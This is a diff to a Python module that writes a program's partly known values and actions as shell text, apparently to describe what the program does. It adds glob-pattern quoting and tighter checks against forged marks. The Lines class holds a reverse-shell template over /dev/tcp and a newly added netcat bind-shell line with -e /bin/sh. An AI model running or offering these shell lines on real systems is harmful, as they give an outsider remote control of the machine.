@@ -1,8 +1,9 @@
 """Values that are only partly known, and how they are written as shell.
 
-A value is a ``str`` in which four Unicode noncharacters mark what is not literal: an unknown part, a shell variable
-(``VAR name END``) and the output of a command (``CMD shell-text END``). Literals are cleaned of them when they
-enter (``clean``), so nothing in the source can forge one.
+A value is a ``str`` in which Unicode noncharacters mark what is not literal: an unknown part (``UNK``), a shell
+variable (``VAR name END``), the output of a command (``CMD shell-text END``) and names that match a pattern
+(``GLOB pattern END``). Literals are cleaned of them when they enter (``clean``), so nothing in the source can forge
+one, but for ``UNK``, which only ever makes things worse for the forger.
 """
 
 from __future__ import annotations
@@ -10,14 +11,16 @@ from __future__ import annotations
 import re
 from shlex import quote
 
-UNK, VAR, CMD, END = "\ufdd0", "\ufdd1", "\ufdd2", "\ufdd3"
+UNK, VAR, CMD, GLOB, END = "\ufdd0", "\ufdd1", "\ufdd2", "\ufdd4", "\ufdd3"
 MAX_SOURCE = 200_000
 MAX_VALUE = 100_000  # longer values become unknown: `a = a * 9` must not grow without bound
 MAX_LINES = 400
 UNKNOWN_CODE = 'sh -c "$__unknown"'
 
-_MARKS = re.compile("[\ufdd0-\ufdd3]")
-_PIECES = re.compile("(\ufdd0|[\ufdd1\ufdd2][^\ufdd3]*\ufdd3)")
+_MARKS = re.compile("[\ufdd0-\ufdd4]")
+_FORGED = re.compile("[\ufdd1-\ufdd4]")
+_PIECES = re.compile("(\ufdd0|[\ufdd1\ufdd2\ufdd4][^\ufdd3]*\ufdd3)")
+_GLOB_CHARS = re.compile("([*?]+|\\[[^\\]]*\\])")
 _NAME = re.compile(r"[A-Za-z_][A-Za-z0-9_]*\Z")
 
 
@@ -25,7 +28,7 @@ def clean(text: str) -> str:
     """A literal of the source, with nothing in it that could pass for a mark (or end a C string)."""
     if text.isascii():
         return text if "\0" not in text else text.replace("\0", "")
-    return _MARKS.sub("?", text).replace("\0", "").encode("utf-8", "replace").decode()
+    return _FORGED.sub("?", text).replace("\0", "").encode("utf-8", "replace").decode()
 
 
 def variable(name: str) -> str:
@@ -35,6 +38,11 @@ def variable(name: str) -> str:
 def output(shell: str) -> str:
     """The value that a command prints."""
     return f"{CMD}{shell}{END}"
+
+
+def matching(pattern: str) -> str:
+    """The names that match a pattern."""
+    return f"{GLOB}{pattern}{END}" if is_known(pattern) else pattern
 
 
 def bounded(text: str) -> str:
@@ -67,9 +75,18 @@ def word(text: str) -> str:
             out.append(f'"${{{piece[1:-1]}}}"' if len(piece) > 2 else "")
         elif piece[0] == CMD:
             out.append(f'"$({piece[1:-1]})"')
+        elif piece[0] == GLOB:
+            out.append(_pattern(piece[1:-1]))
         else:
-            out.append(quote(piece) if piece else "")
+            out.append(quote(piece))
     return "".join(out) or "''"
+
+
+def _pattern(pattern: str) -> str:
+    """A pattern that the shell is to expand: all quoted but its wildcards."""
+    return "".join(
+        part if place % 2 else quote(part) for place, part in enumerate(_GLOB_CHARS.split(pattern)) if part
+    )
 
 
 def path(text: str) -> str:
@@ -102,6 +119,8 @@ def code(text: str) -> str:
             shell = f"${{{piece[1:-1]}}}"
         elif piece[0] == CMD:
             shell = f"$({piece[1:-1]})"
+        elif piece[0] == GLOB:
+            shell = _pattern(piece[1:-1])
         else:
             out.append(piece)
             quoted = _quote_after(piece, quoted)
@@ -189,11 +208,14 @@ class Lines:
         if self.network:
             host, port = self.network
             if self.runs_shell and (self.tied or self.receives):
-                self.add(f"bash -i >& /dev/tcp/{word(host)}/{word(port)} 0>&1")
+                if host:
+                    self.add(f"bash -i >& /dev/tcp/{word(host)}/{word(port)} 0>&1")
+                else:
+                    self.add(f"nc -l -p {word(port)} -e /bin/sh")
         if self._pending:
-            said = "\n".join(self.lines)
+            said = "\n".join((*self.lines, *self._pending))
             for shell in self._pending:
-                if shell not in said:
+                if said.count(shell) == 1:  # only by itself
                     self.add(shell)
         return self.lines
 
